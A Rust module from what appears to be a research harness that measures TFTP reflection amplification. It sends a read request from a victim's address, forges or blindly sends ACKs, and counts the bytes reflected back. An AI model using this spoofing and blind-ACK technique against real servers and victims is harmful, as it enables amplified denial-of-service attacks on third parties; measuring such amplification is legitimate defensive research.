//! Reflection: the bytes and packets that a forged source address receives.

use std::io;
use std::net::{Ipv4Addr, SocketAddr, UdpSocket};
use std::time::{Duration, Instant};

use super::ack;

/// What the attacker sends after its RRQ. It sees no answer.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Behaviour {
    /// Nothing.
    Silent,
    /// ACK 0, once.
    ForgesAckZero,
    /// ACK 0, 1, 2 … every 10 ms.
    AcksBlindly,
}

impl Behaviour {
    /// All behaviours.
    pub const ALL: [Behaviour; 3] = [
        Behaviour::Silent,
        Behaviour::ForgesAckZero,
        Behaviour::AcksBlindly,
    ];

    /// The name in the table.
    pub fn name(self) -> &'static str {
        match self {
            Behaviour::Silent => "nothing more",
            Behaviour::ForgesAckZero => "forged ACK 0",
            Behaviour::AcksBlindly => "ACK 0, 1, 2 … blindly, every 10 ms",
        }
    }
}

/// Payload bytes and packets in both directions.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Reflection {
    /// Bytes that the attacker sent.
    pub sent_bytes: u64,
    /// Packets that the attacker sent.
    pub sent_packets: u64,
    /// Bytes that the victim received.
    pub back_bytes: u64,
    /// Packets that the victim received.
    pub back_packets: u64,
}

impl Reflection {
    /// The amplification factor: bytes received by the victim per byte sent.
    pub fn amplification(&self) -> f64 {
        self.back_bytes as f64 / self.sent_bytes.max(1) as f64
    }
}

const BLIND_EVERY: Duration = Duration::from_millis(10);

/// Sends `request` from the address of `victim`, and counts what the victim receives within `time`.
pub fn reflect(
    server: SocketAddr,
    victim: Ipv4Addr,
    request: &[u8],
    behaviour: Behaviour,
    time: Duration,
) -> io::Result<Reflection> {
    let socket = UdpSocket::bind((victim, 0))?;
    socket.set_read_timeout(Some(BLIND_EVERY / 2))?;
    let mut seen = Reflection::default();
    let send = |datagram: &[u8], seen: &mut Reflection| {
        seen.sent_bytes += datagram.len() as u64;
        seen.sent_packets += 1;
        socket.send_to(datagram, server)
    };
    let started = Instant::now();
    send(request, &mut seen)?;
    let mut next = match behaviour {
        Behaviour::Silent => None,
        Behaviour::ForgesAckZero | Behaviour::AcksBlindly => Some((started + BLIND_EVERY, 0u16)),
    };
    let mut buffer = vec![0; 1 << 16];
    while started.elapsed() < time {
        if let Some((_, block)) = next.filter(|(when, _)| *when <= Instant::now()) {
            send(&ack(block), &mut seen)?;
            let again = behaviour == Behaviour::AcksBlindly;
            next = again.then(|| (Instant::now() + BLIND_EVERY, block.wrapping_add(1)));
        }
        if let Ok((len, _)) = socket.recv_from(&mut buffer) {
            seen.back_bytes += len as u64;
            seen.back_packets += 1;
        }
    }
    Ok(seen)
}
